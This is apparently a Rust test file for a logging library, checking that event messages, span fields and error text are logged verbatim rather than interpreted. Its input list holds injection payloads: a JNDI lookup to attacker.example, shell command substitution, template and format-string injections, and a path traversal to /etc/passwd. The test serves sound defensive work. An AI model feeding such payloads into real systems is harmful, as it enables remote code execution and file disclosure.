//! The content of an event is data.

use netcause_tests::lines::record_one;

/// What other loggers, shells and templates have looked up, run or opened.
const TEMPTING: &[&str] = &[
    "${jndi:ldap://attacker.example/a}",
    "${env:HOME} $HOME %HOME% ~",
    "$(id) `id` ; id",
    "{} {0} {message} {{message}} %s %n %1$s",
    "<%= message %> #{message} {{ 7 * 7 }}",
    "../../../../etc/passwd",
    "%d{ISO8601} %-5level %msg%n",
    "\\u0041 \\x41 &#65; %41",
];

#[test]
fn the_content_of_an_event_is_never_interpreted() {
    for content in TEMPTING {
        let error = std::io::Error::other(*content);
        let line = record_one(|| {
            let span = tracing::info_span!("span", of_span = *content);
            let _entered = span.enter();
            let error = netcause::error(&error);
            tracing::error!(of_event = *content, as_debug = ?content, error, "{content}");
        });
        for key in ["message", "of_event", "of_span", "error.message"] {
            assert_eq!(line.text(key), Some(*content), "{key}");
        }
        assert_eq!(line.text("as_debug"), Some(format!("{content:?}").as_str()));
    }
}
